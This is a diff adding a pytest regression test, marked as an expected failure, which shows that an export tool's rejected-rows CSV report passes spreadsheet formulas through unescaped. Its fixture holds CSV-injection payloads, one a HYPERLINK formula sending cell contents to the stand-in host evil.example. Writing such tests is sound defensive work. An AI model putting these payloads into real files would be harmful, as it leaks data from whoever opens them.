@@ -22,6 +22,7 @@ import pytest
 
 from store.history import History
 from store.paths import history_path
+from tests.engine.conftest import run_cli
 from tests.reliability.conftest import (
     FIGURES,
     Env,
@@ -30,6 +31,7 @@ from tests.reliability.conftest import (
     export_json,
 )
 from tests.reliability.profiles import SEGMENTS_TOML, intended_emails, make_columns
+from tui.cli import main
 
 COLUMNS = make_columns(300, salt=3)
 INTENDED = intended_emails(COLUMNS, ["everyone"])
@@ -375,3 +377,35 @@ def test_workspace_deleted_mid_run_ends_exact_or_fails_cleanly(moment: str, env:
         code, summary, err = export_json(capsys, "news", "--resume", str(run.id))
         assert code == 0, (summary, err)
     assert env.members("news") == intended
+
+
+# -- reports opened in a spreadsheet ------------------------------------------------
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="tui/cli_runs.py writes cells starting with = + - @ as they are: a spreadsheet "
+    "opening the rejected-rows CSV runs them as formulas (CSV injection)",
+)
+def test_rejected_rows_csv_does_not_carry_formulas(env: Env, capsys, tmp_path: Path):
+    env.add_destination("news")
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+    n = len(formulas)
+    columns = {
+        "customer_id": list(range(n)),
+        "email": formulas,
+        "first_name": ["F"] * n,
+        "last_name": ["L"] * n,
+        "country": ["DE"] * n,
+        "city": ["C"] * n,
+        "lifetime_value": [1.0] * n,
+        "email_opt_in": [True] * n,
+    }
+    pq.write_table(pa.table(columns), env.workspace / "profiles.parquet")
+    summary = exported(env, capsys, "--segment", "everyone")
+    report = tmp_path / "rejected.csv"
+    assert run_cli(main, "runs", "rejected", str(summary["run"]), "--csv", str(report)) == 0
+    rows = list(csv.DictReader(report.open(encoding="utf-8")))
+    assert len(rows) == n
+    for row in rows:
+        assert row["email"][:1] not in ("=", "+", "-", "@"), row
